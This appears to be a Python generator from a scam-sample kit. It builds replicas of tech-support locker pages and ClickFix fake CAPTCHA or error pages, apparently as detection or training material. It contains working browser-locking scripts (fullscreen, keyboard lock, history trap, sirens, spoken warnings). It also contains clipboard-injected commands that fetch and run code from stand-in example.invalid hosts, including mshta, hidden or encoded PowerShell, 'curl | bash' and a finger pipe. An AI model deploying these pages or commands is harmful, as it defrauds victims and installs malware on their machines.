"""Scam pages (1): support-scam lockers and ClickFix fake checks.
Phone numbers are fictional (050-0000-xxxx, 0120-000-xxx, 1-8xx-555-01xx);
commands point at example.invalid; nothing is fetched when a page is served."""
from kit import scam, doc, p, li, q, js

IPA = "article:www.ipa.go.jp"
NPA = "article:www.npa.go.jp"
MSSCAM = "Yosshy-Stash/Microsoft-Support-Scam"
MSB = "article:www.malwarebytes.com"
JC3 = "article:www.jc3.or.jp"
TM = "article:www.trendmicro.com"
RCP = "JohnHammond/recaptcha-phish"
PP = "article:www.proofpoint.com"
MSTI = "article:www.microsoft.com"
SEK = "article:blog.sekoia.io"
U42 = "article:unit42.paloaltonetworks.com"
JPCERT = "article:blogs.jpcert.or.jp"

# ------------------------------------------------------------------ runtime pieces
GRAB = """function grab(){var d=document.documentElement;(d.requestFullscreen||d.webkitRequestFullscreen).call(d);
if(navigator.keyboard){navigator.keyboard.lock();}document.body.requestPointerLock&&document.body.requestPointerLock();}
addEventListener('click',grab);addEventListener('keydown',function(e){e.preventDefault();e.stopPropagation();grab();},true);
addEventListener('contextmenu',function(e){e.preventDefault();});"""
TRAP = """for(var n=0;n<30;n++){history.pushState(null,'',location.href+'#'+n);}
addEventListener('popstate',function(){history.pushState(null,'',location.href);});
onbeforeunload=function(){return 'leave?';};"""
SIREN = """var ctx;function siren(){ctx=ctx||new AudioContext();var o=ctx.createOscillator(),g=ctx.createGain();o.type='sawtooth';
o.frequency.setValueAtTime(700,ctx.currentTime);o.frequency.linearRampToValueAtTime(1200,ctx.currentTime+0.6);o.connect(g);g.connect(ctx.destination);o.start();o.stop(ctx.currentTime+0.7);}
setInterval(siren,1000);addEventListener('click',siren);"""
AUDIO_FILE = "var a=new Audio('alert-voice.mp3');a.loop=true;addEventListener('click',function(){a.play();});a.play().catch(function(){});"


def speak(text, lang):
    return ("function talk(){var u=new SpeechSynthesisUtterance(%s);u.lang=%s;speechSynthesis.cancel();speechSynthesis.speak(u);}"
            "addEventListener('click',talk);setInterval(talk,15000);" % (js(text), js(lang)))


def alerts(msg, n=2):
    return "setTimeout(function(){for(var i=0;i<%d;i++){alert(%s);}},800);" % (n, js(msg))


LOCK_CSS = ("html,body{height:100%;cursor:none}body{background:#0a58ca;color:#fff}.w{max-width:760px;margin:40px auto;background:#fff;color:#222;"
            "border:1px solid #888;box-shadow:0 0 24px #000}.w h2{background:#c42b1c;color:#fff;margin:0;padding:10px 16px;font-size:18px}.w .c{padding:16px 20px}"
            ".tel{font-size:28px;font-weight:700;color:#c42b1c}.foot{position:fixed;bottom:0;left:0;right:0;background:#111;color:#fff;padding:8px;text-align:center}")

LOCKERS = [
    # slug, lang, url, title, header, body paras, phone, footer, extra script, note, source, cat
    ("ja-lock-defender-voice", "ja", "https://secure-alert.example.com/jp/?c=1", "Windows Defender セキュリティ センター",
     "Windows Defender - セキュリティ警告", ["このPCへのアクセスはセキュリティ上の理由によりブロックされました。", "お使いのコンピューターがトロイの木馬型スパイウェアに感染していることが検出されました。個人情報、銀行口座、Facebook のログイン情報が盗まれる危険があります。", "このウィンドウを閉じないでください。パソコンを再起動しないでください。"],
     "050-0000-8841", "Windows サポートへすぐにお電話ください（無料・日本語対応）", SIREN + speak("警告。お使いのパソコンはウイルスに感染しています。ただちにサポートへお電話ください。", "ja-JP"),
     "偽Defenderロッカー：全画面・キーボードロック・警告音・音声読み上げ・履歴汚染", IPA, "fullscreen-lock"),
    ("ja-lock-apple-iphone", "ja", "https://ios-security.example.net/jp/alert", "Apple セキュリティ警告",
     "iPhone がハッキングされています", ["あなたの iPhone は 4 つのウイルスに感染しています。", "アダルトサイトの閲覧によりシステムが 28.1% 損傷しています。", "今すぐ Apple サポートに電話して修復してください。"],
     "0120-000-637", "Apple サポート（24時間）", SIREN + alerts("【警告】iPhone がウイルスに感染しています。0120-000-637 に電話してください。"),
     "偽Apple警告：アラート連発・警告音・電話誘導", "article:support.apple.com", "fake-alert"),
    ("ja-lock-mcafee-kigengire", "ja", "https://scan-now.example.org/mcf/ja", "McAfee | ウイルス対策",
     "McAfee - サブスクリプションの有効期限が切れています", ["お使いの PC は保護されていません。5 件のウイルスが見つかりました。", "今すぐ更新して、ウイルスを削除してください。更新料金 5,980円 → 本日限り 1,980円"],
     "050-0000-2271", "更新のお手続き・サポート", "setTimeout(function(){document.getElementById('scan').textContent='スキャン完了：脅威 5 件';},2500);" + SIREN,
     "偽McAfee期限切れ：偽スキャン・電話誘導", MSB, "fake-alert"),
    ("ja-lock-bluescreen", "ja", "https://fix-pc.example.com/bsod/ja", "重大なエラー",
     ":( お使いのPCで問題が発生しました", ["エラーコード：0x80073b01　DRIVER_IRQL_NOT_LESS_OR_EQUAL", "ウイルスによりファイルが破損しています。電源を切るとデータが失われます。"],
     "０５０－００００－９１２７", "マイクロソフト テクニカルサポート（無料）", SIREN,
     "偽ブルースクリーン：全角数字の電話番号、全画面", JC3, "fullscreen-lock"),
    ("ja-lock-porn-keikoku", "ja", "https://douga-free.example.net/warn/", "警告！ウイルス感染",
     "警告：違法なアダルトサイトへのアクセスが検出されました", ["お使いのコンピューターはロックされました。", "個人情報が流出しています。ロックを解除するにはサポートに連絡してください。", "10 分以内に連絡がない場合、パソコンは使用できなくなります。"],
     "050-0000-3318", "ロック解除窓口", AUDIO_FILE + speak("パソコンはロックされました。すぐにお電話ください。", "ja-JP"),
     "アダルト閲覧を口実にしたロック画面", IPA, "fullscreen-lock"),
    ("ja-lock-chat-agent", "ja", "https://pc-hogo.example.com/support/ja", "マイクロソフト サポート",
     "マイクロソフトのテクニカルサポート", ["ウイルス感染が検出されました。チャットの担当者の指示に従ってください。"],
     "0120-000-455", "担当：サポートスタッフ 佐藤", "var m=['こんにちは。マイクロソフトのサポートです。','お使いのパソコンからハッキングの通信が確認されました。','今すぐお電話ください。遠隔でウイルスを駆除します。'],i=0;setInterval(function(){if(i<m.length){var d=document.createElement('p');d.textContent=m[i++];document.getElementById('chat').appendChild(d);}},1800);" + SIREN,
     "偽チャット担当者が電話と遠隔操作を促す", TM, "phone-lure"),
    ("ja-lock-print-loop", "ja", "https://security-jp.example.org/err", "セキュリティ警告",
     "Windows ファイアウォール警告", ["お使いのパソコンは危険にさらされています。", "ネットバンキングの情報が第三者に送信されています。"],
     "050-0000-6640", "今すぐ電話：", "setInterval(function(){try{print();}catch(e){}},4000);" + alerts("システムエラー：050-0000-6640 にお電話ください", 3),
     "印刷ダイアログとアラート連発", JC3, "fake-alert"),
    ("ja-lock-canvas-text", "ja", "https://mado-update.example.net/", "Windows",
     "", [], "050-0000-7786", "", "var c=document.createElement('canvas');c.width=900;c.height=300;document.body.appendChild(c);var x=c.getContext('2d');x.fillStyle='#c00';x.fillRect(0,0,900,300);x.fillStyle='#fff';x.font='28px sans-serif';x.fillText('ウイルスに感染しています！',40,80);x.fillText('Windows サポート 050-0000-7786 に電話してください',40,140);" + SIREN,
     "文字をcanvasだけに描くロック画面（本文テキストなし）", MSSCAM, "fullscreen-lock"),
    ("ja-lock-norton-kansen", "ja", "https://norton-scan.example.com/jp/", "ノートン セキュリティ",
     "ノートン：お使いの PC は 5 個のウイルスに感染しています！", ["ウイルスを削除しないと、個人データが破損する恐れがあります。", "ノートンのサポートに連絡して、感染を解除してください。"],
     "0120-000-862", "ノートン サポートセンター", SIREN, "偽ノートン感染警告", MSB, "fake-alert"),
    ("ja-lock-rakuten-keikoku", "ja", "https://rakuten-anzen.example.net/lock", "楽天カード セキュリティ",
     "楽天カード不正利用防止のためブラウザーをロックしました", ["お客様の端末から不正なアクセスが確認されました。", "カードの利用を再開するには、セキュリティ窓口へお電話ください。"],
     "050-0000-1456", "カードセキュリティ窓口", SIREN + speak("カードが不正利用されています。今すぐお電話ください。", "ja-JP"), "カード会社を装うロック画面", "article:www.rakuten-card.co.jp", "fullscreen-lock"),
    ("en-lock-defender", "en", "https://win-protect.example.com/us/?s=9", "Windows Defender Security Center",
     "Access to this PC has been blocked for security reasons", ["Your computer has alerted us that it has been infected with a Trojan Spyware. The following data has been compromised: email credentials, banking passwords, Facebook login.", "Closing this window will put your personal information at risk and lead to a suspension of your Windows registration."],
     "1-844-555-0137", "Call Windows Support (Toll-Free)", SIREN + speak("Critical alert from Microsoft. Your computer has been blocked. Call support now.", "en-US"),
     "Defender locker: full screen, keyboard lock, siren, voice, history trap", MSSCAM, "fullscreen-lock"),
    ("en-lock-apple-mac", "en", "https://mac-cleaner.example.net/alert", "Apple Security Alert",
     "Your Mac is infected with 3 viruses!", ["Our security check found traces of 2 malware and 1 phishing/spyware. System damage: 28.1%.", "Immediate removal required to prevent further system damage, loss of Apps, Photos or other files."],
     "1-888-555-0119", "Apple Support", SIREN + alerts("Your Mac is infected. Call Apple Support at 1-888-555-0119."), "Fake Apple alert on macOS with alert loop", MSB, "fake-alert"),
    ("en-lock-bsod", "en", "https://sys-err.example.org/bsod", "System error",
     "Your PC ran into a problem", ["Error code: 0x800F081F. Your files are being deleted.", "Do not restart your computer. Please contact a Microsoft certified technician."],
     "1-877-555-0148", "Technical support", SIREN, "Fake blue screen, full screen", MSSCAM, "fullscreen-lock"),
    ("en-lock-chat", "en", "https://live-help.example.com/ms", "Microsoft Support",
     "Microsoft Support — Live Chat", ["Threat detected: Zeus Trojan. Firewall breach."],
     "1-866-555-0190", "Agent: Michael (Microsoft Certified)", "var m=['Hello, this is Microsoft support.','We detected unusual activity from your IP address.','Please call now so a technician can remove the virus remotely.'],i=0;setInterval(function(){if(i<m.length){var d=document.createElement('p');d.textContent=m[i++];document.getElementById('chat').appendChild(d);}},1800);",
     "Fake chat agent pushing a call and remote access", TM, "phone-lure"),
    ("en-lock-paypal", "en", "https://pp-resolution.example.net/hold", "PayPal - Account Limited",
     "Your PayPal account has been locked", ["We noticed an unauthorized payment of $499.99 to Coinbase.", "If you did not make this payment, call PayPal fraud department immediately to cancel it."],
     "1-833-555-0164", "PayPal Fraud Department", AUDIO_FILE, "Fake PayPal charge, call to cancel", "article:www.paypal.com", "phone-lure"),
    ("en-lock-geeksquad", "en", "https://geek-renewal.example.com/inv", "Geek Squad",
     "Geek Squad: your subscription renewed for $349.99", ["Your Geek Squad Total Protection has been renewed automatically.", "To cancel and get a refund within 24 hours, call the billing department."],
     "1-855-555-0183", "Refund desk", "", "Fake renewal invoice pushing a refund call", "article:consumer.ftc.gov", "phone-lure"),
    ("en-lock-firewall-print", "en", "https://netsec-warn.example.org/", "Firewall warning",
     "Windows Firewall: Pornographic spyware detected", ["Your webcam may be accessed remotely. Do not ignore this critical alert.", "Call support to unlock your computer."],
     "1-800-555-0171", "Call now:", "setInterval(function(){try{print();}catch(e){}},4000);" + alerts("Firewall breach! Call 1-800-555-0171"), "Print and alert loop locker", MSB, "fake-alert"),
]
for slug, lang, url, title, hdr, paras, tel, foot, extra, note, src, cat in LOCKERS:
    if hdr:
        body = ('<div class="w"><h2>%s</h2><div class="c">%s<p id="scan"></p><p>%s</p><p class="tel">%s</p><div id="chat"></div>'
                '<button>%s</button> <button>%s</button></div></div><div class="foot">%s %s</div>'
                % (q(hdr), p(*map(q, paras)), q(foot), q(tel), "OK" if lang == "en" else "許可する", "Cancel" if lang == "en" else "キャンセル", q(foot), q(tel)))
    else:
        body = ""
    scam(slug, lang, url, cat, note, doc(lang, title, body, LOCK_CSS, GRAB + "\n" + TRAP + "\n" + extra), src)

# ------------------------------------------------------------------ ClickFix
CFX_CSS = ("body{background:#fff;font-family:Arial,sans-serif}.cap{width:300px;margin:100px auto;border:1px solid #d3d3d3;background:#f9f9f9;padding:14px;border-radius:3px}"
           ".cap small{display:block;text-align:right;color:#777;font-size:10px}#how{display:none;position:fixed;inset:0;background:rgba(0,0,0,.55)}"
           "#how .in{background:#fff;width:460px;margin:90px auto;padding:22px;border-radius:6px}kbd{background:#eee;border:1px solid #aaa;border-radius:3px;padding:0 5px}")


def clip(cmd, trigger):
    return ("document.getElementById(%s).addEventListener('click',function(){var t=%s;"
            "if(navigator.clipboard&&navigator.clipboard.writeText){navigator.clipboard.writeText(t);}"
            "else{var a=document.createElement('textarea');a.value=t;document.body.appendChild(a);a.select();document.execCommand('copy');a.remove();}"
            "document.getElementById('how').style.display='block';});" % (js(trigger), js(cmd)))


def clip_item(cmd, trigger):
    return ("document.getElementById(%s).addEventListener('click',async function(){await navigator.clipboard.write([new ClipboardItem({'text/plain':new Blob([%s],{type:'text/plain'})})]);"
            "document.getElementById('how').style.display='block';});" % (js(trigger), js(cmd)))


def how(lang, steps, title):
    return '<div id="how"><div class="in"><h3>%s</h3>%s</div></div>' % (q(title), li(*steps, tag="ol"))


W_R_JA = ["<kbd>Windows</kbd> キーを押しながら <kbd>R</kbd> を押す", "<kbd>Ctrl</kbd> + <kbd>V</kbd> で貼り付ける", "<kbd>Enter</kbd> を押して認証を完了する"]
W_R_EN = ["Hold the <kbd>Windows</kbd> key and press <kbd>R</kbd>", "In the verification window, press <kbd>Ctrl</kbd> + <kbd>V</kbd>", "Press <kbd>Enter</kbd> to finish"]
W_X_EN = ["Press <kbd>Win</kbd> + <kbd>X</kbd>, then click <b>Terminal (Admin)</b>", "Right-click inside the window to paste", "Press <kbd>Enter</kbd>"]
W_X_JA = ["<kbd>Win</kbd> + <kbd>X</kbd> を押し、「ターミナル (管理者)」を選ぶ", "右クリックで貼り付ける", "<kbd>Enter</kbd> を押す"]
MAC_EN = ["Press <kbd>⌘</kbd> + <kbd>Space</kbd>, type <b>Terminal</b> and press Return", "Paste with <kbd>⌘</kbd> + <kbd>V</kbd>", "Press Return and type your password if asked"]
MAC_JA = ["<kbd>⌘</kbd> + <kbd>スペース</kbd> で「ターミナル」を開く", "<kbd>⌘</kbd> + <kbd>V</kbd> で貼り付ける", "return キーを押し、求められたらパスワードを入力"]

CFX = [
    # slug, lang, url, title, widget text, steps, steps title, cmd, mode, note, src
    ("ja-cfx-recaptcha-winr", "ja", "https://onsen-guide.example.com/ryokan/12", "ロボットではないことを確認",
     "私はロボットではありません", W_R_JA, "認証を完了するには次の手順を行ってください",
     'mshta https://ninsho.example.invalid/c.hta # ✅ 私はロボットではありません - 認証ID: 2291', "text", "偽reCAPTCHA：mshta をクリップボードへ、Win+R 手順", RCP),
    ("ja-cfx-cloudflare-ps", "ja", "https://kakaku-hikaku.example.net/item/8", "セキュリティチェック",
     "人間であることを確認します", W_R_JA, "追加の確認が必要です",
     'powershell -w h -nop -c "iex(irm https://cdn.example.invalid/ja.ps1)" # Cloudflare 認証 Ray ID: 8f21aa', "text", "偽Cloudflare：隠しPowerShell、Win+R", NPA),
    ("ja-cfx-winx-terminal", "ja", "https://news-matome.example.org/a/551", "本人確認",
     "私は人間です", W_X_JA, "ブラウザーの確認に失敗しました。手動で確認してください",
     'powershell -enc SQBFAFgAIAAoAGkAcgBtACAAaAB0AHQAcABzADoALwAvAGUAeABhAG0AcABsAGUALgBpAG4AdgBhAGwAaQBkACkA', "item", "Win+X ターミナル（管理者）、エンコードされた PowerShell、ClipboardItem", JPCERT),
    ("ja-cfx-mac-terminal", "ja", "https://mac-soft.example.com/dl/cleaner", "macOS 認証",
     "Mac ユーザーの確認", MAC_JA, "macOS での確認手順",
     'echo "Y3VybCAtcyBodHRwczovL21hYy5leGFtcGxlLmludmFsaWQvaW5zdGFsbC5zaCB8IGJhc2g=" | base64 -d | bash', "text", "macOS ターミナル版 ClickFix（base64 → bash）", TM),
    ("ja-cfx-meet-mic-error", "ja", "https://meet-kaigi.example.net/room/7731", "会議に参加できません",
     "マイクの初期化に失敗しました（エラー 0x80070005）。「修正」を押してください", W_R_JA, "マイクの問題を修正する",
     'powershell -w hidden -c "irm https://fix.example.invalid/mic | iex"', "text", "偽Web会議のマイクエラー → 修正コマンド", SEK),
    ("ja-cfx-word-moji", "ja", "https://docs-viewer.example.com/d/keiyaku.docx", "文書を表示できません",
     "この文書は正しく表示できません。「修正方法」を押して表示を修正してください。", W_X_JA, "表示の修正",
     'powershell -nop -w 1 -c "$u=\'https://word.example.invalid/f\';iex(New-Object Net.WebClient).DownloadString($u)"', "text", "偽Word表示エラー（文字化け）→ PowerShell", PP),
    ("ja-cfx-hcaptcha-finger", "ja", "https://anime-douga.example.net/ep/3", "hCaptcha 認証",
     "認証のため、下の手順を実行してください", W_R_JA, "あと少しで完了です",
     'cmd /c "finger ja@verify.example.invalid | cmd" ＆ rem 人間認証 ID 5521', "text", "偽hCaptcha：finger コマンド版", "article:www.bleepingcomputer.com"),
    ("ja-cfx-filefix", "ja", "https://share-file.example.org/f/seikyusho", "ファイルの共有",
     "「請求書.pdf」を開くには、エクスプローラーのアドレスバーにパスを貼り付けてください", ["<kbd>Ctrl</kbd> + <kbd>L</kbd> または下のボタンでエクスプローラーを開く", "アドレスバーに <kbd>Ctrl</kbd> + <kbd>V</kbd>", "<kbd>Enter</kbd>"], "ファイルを開く手順",
     'powershell -c "iwr https://files.example.invalid/p.ps1|iex"                                                  # C:\\共有\\請求書.pdf', "text", "FileFix：エクスプローラーのアドレスバーに貼り付け、パスで偽装", "article:mrd0x.com"),
    ("en-cfx-recaptcha-winr", "en", "https://best-recipes.example.com/soup", "Verify you are human",
     "I'm not a robot", W_R_EN, "Verification steps",
     'mshta https://v.example.invalid/ray.hta # ✅ I am not a robot - reCAPTCHA Verification ID: 8821', "text", "Fake reCAPTCHA: mshta to clipboard, Win+R / Ctrl+V / Enter", RCP),
    ("en-cfx-cloudflare-turnstile", "en", "https://pdf-tools.example.net/merge", "Just a moment...",
     "Verify you are human", W_R_EN, "Complete these verification steps",
     'powershell -w hidden -ep bypass -c "irm https://turnstile.example.invalid/r | iex"  # Cloudflare Ray ID: 8f0c12', "text", "Fake Cloudflare Turnstile with PowerShell", MSTI),
    ("en-cfx-winx-admin", "en", "https://crypto-news.example.org/post/9", "Security check",
     "Press the button to verify", W_X_EN, "Human verification required",
     'powershell -enc JABwAD0AJwBoAHQAdABwAHMAOgAvAC8AZQB4AGEAbQBwAGwAZQAuAGkAbgB2AGEAbABpAGQAJwA=', "item", "Win+X Terminal (Admin), encoded PowerShell, ClipboardItem", PP),
    ("en-cfx-mac-osascript", "en", "https://video-dl.example.com/mac", "Verify you are human (macOS)",
     "Verify you are human", MAC_EN, "Verification for Mac users",
     'curl -fsSL https://mac.example.invalid/v.sh | bash', "text", "macOS Terminal variant (curl | bash)", "article:www.bleepingcomputer.com"),
    ("en-cfx-teams-error", "en", "https://teams-join.example.net/meet/123", "Microsoft Teams",
     "There was a problem with your audio device. Click \"How to fix\".", W_R_EN, "How to fix",
     'powershell -w h -c "iex (iwr https://teams-fix.example.invalid/a.ps1).Content"', "text", "Fake Teams audio error with fix command", SEK),
    ("en-cfx-chrome-font", "en", "https://blog-site.example.org/p/42", "Chrome",
     "The \"HoeflerText\" font wasn't found. Click \"Fix it\" to install the missing font.", W_X_EN, "Install root certificate",
     'powershell -nop -c "$f=Join-Path $env:TEMP font.exe;iwr https://fonts.example.invalid/HoeflerText.exe -OutFile $f;start $f"', "text", "Missing-font lure with a fix command", PP),
    ("en-cfx-dns-error", "en", "https://mail.example.com/owa", "DNS error",
     "DNS_PROBE_FINISHED_NXDOMAIN. Click \"Fix\" to repair your network settings.", W_R_EN, "Fix the network",
     'cmd /c start /min powershell -w h -c "irm https://dns.example.invalid/f|iex" # ipconfig /flushdns', "text", "Fake DNS error, disguised as flushdns", U42),
    ("en-cfx-discord-verify", "en", "https://discord-verify.example.net/", "Discord Verification",
     "Verify your account to access the server", W_R_EN, "Bot check",
     'powershell -w 1 -c "Start-Process -WindowStyle Hidden mshta https://dc.example.invalid/v"', "text", "Fake Discord server verification bot", "article:research.checkpoint.com"),
    ("en-cfx-booking-captcha", "en", "https://admin-booking.example.com/extranet", "Booking.com | Partner",
     "Guest complaint: verify you are a partner to see the review", W_R_EN, "Partner verification",
     'mshta https://partner.example.invalid/verify # Booking.com Partner ID 5513', "text", "Fake Booking.com partner check (hotel staff)", MSTI),
    ("en-cfx-zoom-camera", "en", "https://zoom-us.example.org/j/8811", "Zoom",
     "Camera not detected. Update your Zoom driver to join.", W_R_EN, "Update the camera driver",
     'powershell -w h -c "irm https://zoom.example.invalid/drv|iex" # Zoom camera driver 5.17', "text", "Fake Zoom camera error with fix command", SEK),
]
for slug, lang, url, title, widget, steps, st, cmd, mode, note, src in CFX:
    btn = "確認" if lang == "ja" else "Verify"
    body = ('<div class="cap"><p>%s</p><label><input type="checkbox" id="go"> %s</label><small>reCAPTCHA<br>Privacy - Terms</small></div>%s'
            % (q(widget), btn, how(lang, steps, st)))
    script = clip(cmd, "go") if mode == "text" else clip_item(cmd, "go")
    scam(slug, lang, url, "clickfix", note, doc(lang, title, body, CFX_CSS, script), src)
